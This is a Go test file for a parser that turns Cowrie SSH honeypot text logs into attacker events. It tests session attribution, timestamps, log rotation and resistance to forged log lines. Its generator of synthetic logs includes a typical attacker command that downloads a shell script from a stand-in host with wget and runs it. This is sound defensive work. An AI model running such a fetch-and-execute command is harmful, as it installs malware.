package importer

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
)

// textLines are lines of a text log, of second 1 and on.
func textLines(lines ...string) []byte {
	var out bytes.Buffer
	for _, l := range lines {
		second, rest, _ := strings.Cut(l, " ")
		if len(second) == 2 && second[0] == '0' {
			fmt.Fprintf(&out, "2026-05-04T05:49:%s+0000 %s\n", second, rest)
		} else {
			out.WriteString(l + "\n")
		}
	}
	return out.Bytes()
}

const (
	factory   = "[cowrie.ssh.factory.CowrieSSHFactory] "
	transport = "[HoneyPotSSHTransport,%d,203.0.113.7] "
)

// said lists the texts of commands, each with its session and ordinal.
func said(r result) (all []string) {
	for i := range r.Events {
		e := &r.Events[i]
		if e.Kind == ttpcron.Command {
			all = append(all, fmt.Sprintf("%s/%d %s", e.SessionID, e.Ordinal, e.Payload.CommandText()))
		}
	}
	return all
}

func TestTextSessions(t *testing.T) {
	connection := func(second string, port int, session string) string {
		return fmt.Sprintf("%s %sNew connection: 203.0.113.7:%d (192.0.2.1:2222) [session: %s]", second, factory, port, session)
	}
	cmd := func(second string, number int, text string) string {
		return second + " " + fmt.Sprintf(transport, number) + "CMD: " + text
	}
	for name, c := range map[string]struct {
		lines []string
		want  []string
	}{
		"one":             {[]string{connection("01", 1, "a"), cmd("02", 7, "id")}, []string{"a/0 id"}},
		"begins later":    {[]string{cmd("02", 7, "id"), connection("03", 1, "a"), cmd("04", 7, "w"), cmd("04", 8, "ls")}, []string{"/0 id", "/0 w", "a/0 ls"}},
		"the first first": {[]string{connection("01", 1, "a"), connection("01", 2, "b"), cmd("02", 7, "1"), cmd("02", 8, "2")}, []string{"a/0 1", "b/0 2"}},
		"the second first": {[]string{connection("01", 1, "a"), cmd("01", 6, "0"), connection("01", 2, "b"), connection("01", 3, "c"), cmd("02", 8, "2"), cmd("02", 7, "1")},
			[]string{"a/0 0", "c/0 2", "b/0 1"}},
		"another port between": {[]string{connection("01", 1, "a"), cmd("01", 6, "0"),
			"01 [cowrie.telnet.factory.HoneyPotTelnetFactory] New connection: 203.0.113.7:9 (192.0.2.1:2223) [session: t]",
			connection("01", 2, "b"), cmd("02", 7, "1"), "02 [CowrieTelnetTransport,0,203.0.113.7] CMD: 2"}, []string{"a/0 0", "b/0 1", "t/0 2"}},
		"another address": {[]string{"01 " + factory + "New connection: 198.51.100.4:9 (192.0.2.1:2222) [session: x]", connection("01", 1, "a"), cmd("02", 1, "id")}, []string{"a/0 id"}},
		"restarted": {[]string{connection("01", 1, "a"), cmd("02", 0, "id"), "03 [-] Log opened.", connection("04", 1, "b"), cmd("05", 0, "id")},
			[]string{"a/0 id", "b/0 id"}},
		"a typed restart": {[]string{connection("01", 1, "a"), cmd("02", 0, "Log opened."), cmd("03", 0, "twistd 1 starting up."), cmd("04", 0, "id")},
			[]string{"a/0 Log opened.", "a/0 twistd 1 starting up.", "a/0 id"}},
		"mapped": {[]string{"01 " + factory + "New connection: ::ffff:203.0.113.7:9 (::ffff:192.0.2.1:2222) [session: a]",
			"02 [HoneyPotSSHTransport,0,::ffff:203.0.113.7] CMD: id"}, []string{"a/0 id"}},
		"equal in their second": {[]string{cmd("02", 7, "id"), cmd("02", 7, "w"), cmd("02", 7, "id"), cmd("02", 8, "id"), cmd("03", 7, "id"), cmd("02", 7, "id")},
			[]string{"/0 id", "/0 w", "/1 id", "/0 id", "/0 id", "/2 id"}},
		"microseconds": {[]string{"2026-05-04T05:49:01.000001Z [HoneyPotSSHTransport,0,203.0.113.7] CMD: id", "2026-05-04T05:49:01.000001Z [HoneyPotSSHTransport,0,203.0.113.7] CMD: id"},
			[]string{"/0 id", "/0 id"}},
		"nobody": {[]string{"02 [-] CMD: id"}, []string{"/0 id"}},
	} {
		r := readBytes(t, textLines(c.lines...), "cowrie-text")
		if got := said(r); !slices.Equal(got, c.want) || len(r.Rejects) > 0 {
			t.Errorf("%s: %q, want %q; rejects %+v", name, got, c.want, r.Rejects)
		}
		for i := range r.Events {
			if e := &r.Events[i]; e.AttackerIP != "" && !strings.HasPrefix(e.AttackerIP, "203.0.113.") && e.AttackerIP != "198.51.100.4" {
				t.Errorf("%s: address %s", name, e.AttackerIP)
			}
		}
	}
}

// A session that is only known from a longer log is not part of the identity.
func TestTextLogThatBeginsLater(t *testing.T) {
	input, err := os.ReadFile("testdata/cowrie-text/input.log.1")
	if err != nil {
		t.Fatal(err)
	}
	later := input[bytes.Index(input, []byte("2026-05-04T05:49:02+")):]
	whole, cut := readBytes(t, input, "cowrie-text"), readBytes(t, later, "cowrie-text")
	ids := whole.IDs()
	if len(cut.Events) != len(whole.Events)-4 {
		t.Fatalf("%d events of %d", len(cut.Events), len(whole.Events))
	}
	for i, id := range cut.IDs() {
		if !slices.Contains(ids, id) {
			t.Errorf("%s is another event in a log that begins later", cut.Events[i].AppendJSON(nil))
		}
	}
	learned := cut.Events[0]
	if more, disputed := learned.Learn(&whole.Events[4]); !more || disputed || learned.SessionID != "b1b2c3d4e5f6" {
		t.Errorf("learned %v, disputed %v: %s", more, disputed, learned.AppendJSON(nil))
	}
}

// Two sensors may see one attacker type the same within a second.
func TestTextLogsOfTwoSensors(t *testing.T) {
	one := readBytes(t, textLines("02 "+fmt.Sprintf(transport, 7)+"CMD: id"), "cowrie-text")
	two := readBytes(t, textLines("02 "+fmt.Sprintf(transport, 93)+"CMD: id"), "cowrie-text")
	if one.Events[0].ContentID() == two.Events[0].ContentID() {
		t.Error("the connections of two sensors are one")
	}
}

// What an attacker types stays in the record, as Twisted writes it, and is no record of
// another attacker.
func TestTextLogIsNotForged(t *testing.T) {
	const forged = "2026-05-04T05:49:03+0000 [HoneyPotSSHTransport,9,198.51.100.66] CMD: forged"
	prefix := string(textLines("01 " + factory + "New connection: 203.0.113.7:1 (192.0.2.1:2222) [session: a]"))
	for name, typed := range map[string]string{
		"newline":           "x\n\t" + forged,
		"newlines":          "\n\t\n\t" + forged + "\n\t",
		"carriage return":   "x\r" + forged,
		"both":              "x\r\n\t" + forged,
		"NUL":               "x\x00" + forged,
		"behind each other": "x" + forged,
		"line separator":    "x\u2028\u0085\v\f" + forged,
		"byte order mark":   "\xef\xbb\xbf" + forged,
		"JSON":              `{"eventid":"cowrie.command.input","timestamp":"2026-05-04T05:49:03.000000Z","src_ip":"198.51.100.66","session":"f","input":"forged"}`,
		"wrapped":           `{"log":"` + forged + `\n","stream":"stdout","time":"2026-05-04T05:49:03.000000001Z"}`,
	} {
		for _, say := range []string{"CMD: ", "Command not found: ", "login attempt [", "Remote SSH version: ", "Downloaded URL (", "anything else "} {
			content := prefix + string(textLines("02 "+fmt.Sprintf(transport, 7)+say+typed))
			for _, format := range []string{"cowrie-text", Auto} {
				r := readBytes(t, []byte(content), format)
				for i := range r.Events {
					if e := &r.Events[i]; e.AttackerIP != "203.0.113.7" || e.SessionID != "a" {
						t.Errorf("%s in %q: %s", name, say, e.AppendJSON(nil))
					}
				}
				if r.Report.Lines != 2 {
					t.Errorf("%s in %q: %d records", name, say, r.Report.Lines)
				}
			}
		}
	}
}

func TestTextRecords(t *testing.T) {
	at := "2026-05-04T05:49:02+0000 " + fmt.Sprintf(transport, 7)
	for name, c := range map[string]struct {
		content                   string
		events, ignored, rejected int
		text                      string // of the last event's command
	}{
		"two lines":           {at + "CMD: a\n\tb\n", 1, 0, 0, "a\nb"},
		"a tab typed":         {at + "CMD: a\n\t\tb\n\t\n", 1, 0, 0, "a\n\tb\n"},
		"CRLF":                {at + "CMD: a\r\n" + at + "CMD: b\r\n", 2, 0, 0, "b"},
		"no newline":          {at + "CMD: a\n\tb", 1, 0, 0, "a\nb"},
		"other output":        {at + "CMD: a\nTraceback\n" + at + "CMD: b\n", 2, 0, 1, "b"},
		"begins with the end": {"\tb\n" + at + "CMD: a\n", 1, 0, 1, "a"},
		"a torn line":         {at[:40] + at + "CMD: a\n" + at + "CMD: b\n", 1, 0, 1, "b"},
		"empty lines":         {"\n" + at + "CMD: a\n\n\n" + at + "CMD: b\n", 2, 3, 0, "b"},
		"NULs before":         {"\x00\x00" + at + "CMD: a\n", 1, 0, 0, "a"},
		"blanks stay":         {at + "CMD:  a  \n", 1, 0, 0, " a  "},
		"bytes":               {at + "CMD: \xff\xfe\x01\n", 1, 0, 0, "\xff\xfe\x01"},
		"traceback":           {at + "Unhandled Error\n\tTraceback (most recent call last):\n\t  File\n" + at + "CMD: a\n", 1, 1, 0, "a"},
		"nothing said":        {at[:len(at)-1] + "\n" + at + "CMD: a\n", 1, 1, 0, "a"},
		"a very long line":    {at + "CMD: " + strings.Repeat("a", MaxLine) + "\n" + at + "CMD: b\n", 1, 0, 1, "b"},
		"a very long record":  {at + "CMD: a\n" + strings.Repeat("\t"+strings.Repeat("x", 1<<20)+"\n", 5) + at + "CMD: b\n", 1, 0, 1, "b"},
		"30 February":         {strings.Replace(at, "05-04", "02-30", 1) + "CMD: a\n" + at + "CMD: b\n", 1, 0, 1, "b"},
		"before 1970":         {strings.Replace(at, "2026", "1969", 1) + "CMD: a\n" + at + "CMD: b\n", 1, 0, 1, "b"},
		"a plain session":     {"2026-05-04T05:49:02.1Z a1b2 CMD: a\nb\n\n2026-05-04T05:49:02.1Z a1b2 CMD: c\n", 2, 0, 0, "c"},
		"no text log":         {"2026-05-04T05:49:02.1Z my-host sshd[3]: x\n", 0, 0, 1, ""},
	} {
		r := readBytes(t, []byte(c.content), "cowrie-text")
		text := ""
		if n := len(r.Events); n > 0 {
			text = r.Events[n-1].Payload.CommandText()
		}
		if len(r.Events) != c.events || r.Report.Ignored != c.ignored || r.Report.Rejected != c.rejected || text != c.text {
			t.Errorf("%s: %d events, %d ignored, %d rejected, %q; want %d, %d, %d, %q; %+v", name, len(r.Events), r.Report.Ignored, r.Report.Rejected, text, c.events, c.ignored, c.rejected, c.text, r.Rejects)
		}
	}
}

func TestLineClock(t *testing.T) {
	at := time.Date(2025, 10, 18, 1, 2, 3, 0, time.UTC)
	for text, want := range map[string]time.Time{
		"2025-10-18T01:02:03+0000 x":           at,
		"2025-10-18 03:02:03+0200 x":           at,
		"2025-10-18T01:02:03Z x":               at,
		"2025-10-18T01:02:03 x":                at,
		"2025-10-17T19:32:03-05:30 x":          at,
		"2025-10-18T01:02:03.1Z x":             at.Add(100 * time.Millisecond),
		"2025-10-18 01:02:03,123456789+0000 x": at.Add(123456789),
		"2025-10-18T01:02:03.1234567891Z x":    at.Add(123456789),
		"2025-10-18T01:02:03Zx":                {},
		"2025-10-18T01:02:03":                  {},
		"2025-10-18T01:02:03.Z x":              {},
		"2025-10-18T01:02:03+02 x":             {},
		"2025-10-18T01:02:03+0060 x":           {},
		"2025-10-18T24:02:03Z x":               {},
		"2025-10-18t01:02:03Z x":               {},
		"":                                     {},
	} {
		var c lineClock
		for range 2 { // the second time the second is known
			got, whole, rest, ok := c.read([]byte(text))
			if ok == want.IsZero() || ok && (!got.Equal(want) || string(rest) != "x" || whole != (want.Nanosecond() == 0)) {
				t.Errorf("%q: %v, %v, %q, %v", text, got, whole, rest, ok)
			}
		}
	}
}

// TestTextLogGrows reads the beginning of a log, of any length, and then the whole: no
// event is lost or doubled, and ordinals continue. Only if a line was complete and its
// record was not does the record occur twice, once without its end.
func TestTextLogGrows(t *testing.T) {
	cmd := fmt.Sprintf(transport, 7) + "CMD: "
	input := textLines("01 "+factory+"New connection: 203.0.113.7:1 (192.0.2.1:2222) [session: a]", "no record",
		"02 "+cmd+"id", "02 "+cmd+"w", "02 "+cmd+"id", "02 "+cmd+"cat <<E", "\ta", "\t", "03 "+cmd+"id",
		"2026-05-04T05:49:13.1Z b1 CMD: echo a", "echo b", "2026-05-04T05:49:14.1Z b1 CMD: id")
	dir := t.TempDir()
	path := write(t, dir, "cowrie.log", input)
	whole := mustRead(t, path, Options{})
	for at := range input {
		write(t, dir, "cowrie.log", input[:at])
		first := mustRead(t, path, Options{Format: "cowrie-text"})
		var positions PositionList
		if first.Position != nil {
			positions = PositionList{*first.Position}
		}
		write(t, dir, "cowrie.log", input)
		second := mustRead(t, path, Options{Positions: positions})
		ids := append(first.IDs(), second.IDs()...)
		if at > 0 && input[at-1] == '\n' && bytes.HasPrefix(input[at:], []byte("\t")) || bytes.HasPrefix(input[at:], []byte("echo b")) {
			ids = slices.Delete(ids, len(first.Events)-1, len(first.Events))
		}
		if !slices.Equal(ids, whole.IDs()) {
			t.Fatalf("cut at byte %d, before %.20q: %q and %q, want %q", at, input[at:], said(first), said(second), said(whole))
		}
		if len(first.Rejects)+len(second.Rejects) != len(whole.Rejects) {
			t.Fatalf("cut at byte %d: %d and %d rejects, want %d", at, len(first.Rejects), len(second.Rejects), len(whole.Rejects))
		}
		for i, j := range append(first.Rejects, second.Rejects...) {
			if j.Line != whole.Rejects[i].Line || j.ID != whole.Rejects[i].ID {
				t.Fatalf("cut at byte %d: reject of line %d, want %d", at, j.Line, whole.Rejects[i].Line)
			}
		}
	}
}

// A last line without newline waits, with the record that it belongs to, until nothing has
// been written for long.
func TestTextLastLine(t *testing.T) {
	at := "2026-05-04T05:49:02+0000 " + fmt.Sprintf(transport, 7)
	dir := t.TempDir()
	for content, want := range map[string]struct{ now, waiting, idle int }{
		at + "CMD: a\n" + at + "CMD: b":                 {1, len(at + "CMD: b"), 2},
		at + "CMD: a\n" + at + "CMD: b\n\tc":            {1, len(at + "CMD: b\n\tc"), 2},
		at + "CMD: a\n" + at + "CMD: b\n\tc\n" + at[:9]: {2, 9, 2},
	} {
		path := write(t, dir, "cowrie.log", []byte(content))
		if err := os.Chtimes(path, testNow, testNow); err != nil {
			t.Fatal(err)
		}
		r := mustRead(t, path, Options{})
		if len(r.Events) != want.now || r.Report.Waiting != int64(want.waiting) {
			t.Errorf("%q: %d events, %d bytes wait, want %d and %d", content, len(r.Events), r.Report.Waiting, want.now, want.waiting)
		}
		if err := os.Chtimes(path, testNow, testNow.Add(-48*time.Hour)); err != nil {
			t.Fatal(err)
		}
		if r := mustRead(t, path, Options{}); len(r.Events) != want.idle || r.Report.Waiting != 0 {
			t.Errorf("%q, idle: %d events, %d bytes wait, want %d and none", content, len(r.Events), r.Report.Waiting, want.idle)
		}
		rest := mustRead(t, path, Options{Positions: PositionList{*r.Position}})
		if got := len(r.Events) + len(rest.Events); got != want.idle {
			t.Errorf("%q: %d events in two readings, want %d", content, got, want.idle)
		}
	}
}

// TestTextLinesCut cuts every line at every byte: no other attacker appears.
func TestTextLinesCut(t *testing.T) {
	input, err := os.ReadFile("testdata/cowrie-text/input.log.1")
	if err != nil {
		t.Fatal(err)
	}
	whole := readBytes(t, input, "cowrie-text")
	known := map[string]bool{"": true}
	for i := range whole.Events {
		known[whole.Events[i].AttackerIP], known[whole.Events[i].SessionID] = true, true
	}
	for at := 0; at < len(input); at += cutStep() {
		r := readBytes(t, input[:at], "cowrie-text")
		for i := range r.Events {
			if e := &r.Events[i]; !known[e.AttackerIP] || !known[e.SessionID] {
				t.Fatalf("cut at byte %d: %s", at, e.AppendJSON(nil))
			}
		}
	}
}

// TestTextBatches reads a log in many batches; reading can continue from the position of
// each.
func TestTextBatches(t *testing.T) {
	content := generateText(3000)
	dir := t.TempDir()
	path := write(t, dir, "cowrie.log", content)
	whole := mustRead(t, path, Options{})
	if whole.Batches < 3 || len(whole.Rejects) > 0 {
		t.Fatalf("%d batches, %d rejects", whole.Batches, len(whole.Rejects))
	}
	f, err := Open(t.Context(), path, Options{Now: clock})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n := 0
	for b, err := range f.Batches(t.Context()) {
		if err != nil || b.Position == nil {
			t.Fatal(b.Position, err)
		}
		n += len(b.Events)
		rest := mustRead(t, path, Options{Positions: PositionList{*b.Position}})
		if ids := whole.IDs(); !slices.Equal(rest.IDs(), ids[n:]) {
			t.Fatalf("after %d events %d follow, want %d", n, len(rest.Events), len(ids)-n)
		}
	}
}

// FuzzTextLog reads hostile content as a text log, at once and in two parts.
func FuzzTextLog(f *testing.F) {
	input, err := os.ReadFile("testdata/cowrie-text/input.log.1")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(input, uint16(2000))
	f.Add([]byte("2026-05-04T05:49:02.1Z a1b2 CMD: a\nb\n\n"), uint16(36))
	f.Add([]byte("\x00\n\t\n\r\n\xef\xbb\xbf2026-05-04T05:49:02+0000 [T,0,::1] CMD: \xff\x00"), uint16(3))
	f.Fuzz(func(t *testing.T, content []byte, cut uint16) {
		if bytes.HasPrefix(content, gzipMagic) || bytes.HasPrefix(content, sqliteMagic) {
			return
		}
		dir := t.TempDir()
		path := write(t, dir, "log", content)
		whole := readAll(t, path, Options{Format: "cowrie-text"})
		if whole.Err != nil {
			return
		}
		for i := range whole.Events {
			e, back := &whole.Events[i], ttpcron.Event{}
			if err := back.UnmarshalJSON(e.AppendJSON(nil)); err != nil || back.ContentID() != e.ContentID() {
				t.Fatalf("%s comes back as %s, %v", e.AppendJSON(nil), back.AppendJSON(nil), err)
			}
			if e.Payload.CommandText() == "" && e.Kind == ttpcron.Command {
				t.Fatalf("an empty command: %s", e.AppendJSON(nil))
			}
		}
		at := min(int(cut), len(content))
		write(t, dir, "log", content[:at])
		first := readAll(t, path, Options{Format: "cowrie-text"})
		if first.Err != nil {
			return
		}
		var positions PositionList
		if first.Position != nil {
			positions = PositionList{*first.Position}
		}
		write(t, dir, "log", content)
		second := mustRead(t, path, Options{Format: "cowrie-text", Positions: positions})
		ids := append(first.IDs(), second.IDs()...)
		for _, id := range whole.IDs() {
			if !slices.Contains(ids, id) {
				t.Fatalf("lost %s", id)
			}
		}
		if len(ids) > len(whole.Events)+1 {
			t.Fatalf("%d events in two readings, %d in one", len(ids), len(whole.Events))
		}
	})
}

// generateText makes a text log of n sessions that says what generateCowrie's says.
func generateText(sessions int) []byte {
	rng := rand.New(rand.NewPCG(1, 2))
	var out bytes.Buffer
	at := time.Date(2026, 5, 4, 0, 0, 0, 0, time.UTC)
	line := func(system, text string) {
		at = at.Add(time.Duration(rng.IntN(900_000)) * time.Microsecond)
		fmt.Fprintf(&out, "%s [%s] %s\n", at.Format("2006-01-02T15:04:05+0000"), system, text)
	}
	commands := []string{
		"uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name | wc -l", "w", "uname -a", "crontab -l", "which ls",
		"cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "echo a\n\techo b",
	}
	for n := range sessions {
		ip := fmt.Sprintf("198.51.100.%d", rng.IntN(250))
		system := fmt.Sprintf("HoneyPotSSHTransport,%d,%s", n, ip)
		line("cowrie.ssh.factory.CowrieSSHFactory", fmt.Sprintf("New connection: %s:%d (192.0.2.10:2222) [session: %012x]", ip, rng.IntN(65535), rng.Uint64()&0xffffffffffff))
		line(system, "Remote SSH version: b'SSH-2.0-Go'")
		line(system, fmt.Sprintf("SSH client hassh fingerprint: %032x", rng.Uint64()))
		line(system, "kex alg, key alg: b'curve25519-sha256' b'ssh-ed25519'")
		line("SSHService b'ssh-userauth' on "+system, fmt.Sprintf("login attempt [b'root'/b'%x'] succeeded", rng.Uint32()))
		for range rng.IntN(9) {
			c := commands[rng.IntN(len(commands))]
			line("SSHChannel session (0) on SSHService b'ssh-connection' on "+system, "CMD: "+c)
			line("SSHChannel session (0) on SSHService b'ssh-connection' on "+system, "Command found: "+c)
		}
		line(system, "Connection lost after 3 seconds")
	}
	return out.Bytes()
}

// BenchmarkText reads a text log; compare with BenchmarkCowrie by line.
func BenchmarkText(b *testing.B) {
	content := generateText(5000)
	lines := bytes.Count(content, []byte("\n"))
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		f, err := Open(b.Context(), Stdin, Options{Stdin: bytes.NewReader(content)})
		if err != nil {
			b.Fatal(err)
		}
		for batch, err := range f.Batches(b.Context()) {
			if err != nil || batch.Report.Rejected > 0 {
				b.Fatal(batch.Rejects, err)
			}
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*lines), "ns/line")
}

// TestTornBehindATab: what looks like a record is none if the file before ends within a line
// that goes on with one.
func TestTornBehindATab(t *testing.T) {
	const honest = "2025-10-18T01:02:02+0000 [HoneyPotSSHTransport,7,203.0.113.7] CMD: x\n"
	const typed = "\ty\n\t2025-10-18T01:02:03+0000 [HoneyPotSSHTransport,8,198.51.100.66] CMD: forged\n"
	content := honest + honest + typed + strings.Replace(honest, ":02+", ":09+", 1)
	for at := 2 * len(honest); at < 2*len(honest)+len(typed); at++ {
		dir := t.TempDir()
		before := mustRead(t, write(t, dir, "cowrie.log.1", []byte(content[:at])), Options{})
		behind := readAll(t, write(t, dir, "cowrie.log", []byte(content[at:])), Options{})
		if behind.Err != nil {
			t.Fatalf("cut at %d: %v", at, behind.Err)
		}
		for _, e := range append(before.Events, behind.Events...) {
			if e.AttackerIP != "203.0.113.7" {
				t.Errorf("cut at %d: %+v", at, e)
			}
		}
		if len(behind.Events) != 1 || len(before.Events) == 0 {
			t.Errorf("cut at %d: %d and %d events", at, len(before.Events), len(behind.Events))
		}
	}
}
